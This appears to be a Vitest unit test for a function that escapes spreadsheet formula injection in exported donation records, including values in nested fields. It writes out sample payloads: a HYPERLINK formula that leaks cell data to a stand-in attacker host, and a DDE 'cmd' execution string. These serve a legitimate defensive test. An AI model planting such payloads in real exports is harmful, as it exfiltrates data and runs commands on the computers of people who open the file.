import { describe, expect, it } from 'vitest';
import { asSpreadsheetData } from './export';

describe('a list exported to a spreadsheet', () => {
  it('writes every text that a spreadsheet would run as a formula as text, nested ones too', () => {
    const donation = {
      id: '7',
      amount: -12.5,
      paidAt: '2026-04-05T10:00:00.000Z',
      payerName: '=HYPERLINK("//ev.il/"&D2,"x")',
      user: { firstname: "+cmd|' /C calc'!A0", lastname: 'Lovelace', tags: ['@SUM(A1)', 'ok'] },
      note: null,
    };
    expect(asSpreadsheetData(donation)).toEqual({
      id: '7',
      amount: -12.5,
      paidAt: '2026-04-05T10:00:00.000Z',
      payerName: `'=HYPERLINK("//ev.il/"&D2,"x")`,
      user: { firstname: "'+cmd|' /C calc'!A0", lastname: 'Lovelace', tags: ["'@SUM(A1)", 'ok'] },
      note: null,
    });
  });
});
